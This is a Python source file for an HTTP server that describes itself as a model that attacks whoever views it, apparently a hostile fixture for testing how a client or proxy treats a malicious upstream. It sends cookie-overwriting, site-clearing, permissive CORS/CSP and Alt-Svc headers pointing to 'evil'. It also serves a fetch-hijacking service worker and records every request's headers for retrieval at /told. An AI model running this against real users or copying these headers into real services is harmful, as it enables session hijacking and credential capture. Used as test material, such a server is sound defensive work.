"""A model that attacks whoever looks at it: pages that run scripts, headers that browsers obey, and
a note of all it is told.

GET /page?app=ORIGIN the page GET /told every request so far, as JSON GET /answer/STATUS with all
the headers GET /socket a WebSocket GET /worker.js a service worker GET /v2/health/ready
"""

import json
import re
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

PAGE = Path(__file__).resolve().with_name("page.txt").read_text()
TOLD = []
HEADERS = {
    "Set-Cookie": "__Host-cf_session=evil; Path=/; Secure; HttpOnly",
    "Service-Worker-Allowed": "/",
    "Clear-Site-Data": '"*"',
    "Strict-Transport-Security": "max-age=1",
    "Content-Security-Policy": "default-src * 'unsafe-inline'",
    "Refresh": "1; url=/app/",
    "Access-Control-Allow-Origin": "*",
    "Access-Control-Allow-Credentials": "true",
    "Cross-Origin-Resource-Policy": "cross-origin",
    "X-Frame-Options": "ALLOWALL",
    "X-Accel-Redirect": "/app/",
    "WWW-Authenticate": 'Basic realm="CreativeFlow"',
    "Alt-Svc": 'h2="evil:443"',
    "Link": "</app/>; rel=preload",
    "Location": "https://127.0.0.1:18443/web/session/logout",
}
WORKER = "self.addEventListener('fetch', (event) => event.respondWith(new Response('mine')));"


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    timeout = 30

    def do_GET(self):  # noqa: N802 (the name http.server wants)
        parts = urlsplit(self.path)
        if parts.path.startswith("/v2/"):
            return self.answer(200, {"ready": True, "live": True})
        if parts.path == "/told":
            return self.answer(200, TOLD)
        TOLD.append({"path": self.path, "headers": dict(self.headers.items())})
        if parts.path == "/page":
            app = parse_qs(parts.query).get("app", [""])[0]
            return self.send(200, "text/html", PAGE.replace("@APP@", app).replace("@HERE@", "./"))
        if parts.path == "/worker.js":
            return self.send(200, "text/javascript", WORKER)
        if parts.path == "/early":
            self.wfile.write(
                b"HTTP/1.1 103 Early Hints\r\nSet-Cookie: early=1\r\n"
                b"Link: </app/>; rel=preload\r\n\r\n"
            )
            return self.send(200, "text/html", PAGE)
        if parts.path == "/socket":
            self.send_response(101)
            self.send_header("Upgrade", "websocket")
            self.send_header("Connection", "Upgrade")
            return self.end_headers()
        status = re.fullmatch(r"/answer/(\d{3})", parts.path)
        return self.send(
            int(status[1]) if status else 404, "text/html", "<script>learned()</script>"
        )

    def do_POST(self):  # noqa: N802
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.do_GET()

    def answer(self, status, value):
        body = json.dumps(value).encode()
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def send(self, status, content_type, text):
        body = text.encode()
        self.send_response(status)
        for name, value in HEADERS.items():
            self.send_header(name, value)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


if __name__ == "__main__":
    ThreadingHTTPServer(("0.0.0.0", 8080), Handler).serve_forever()
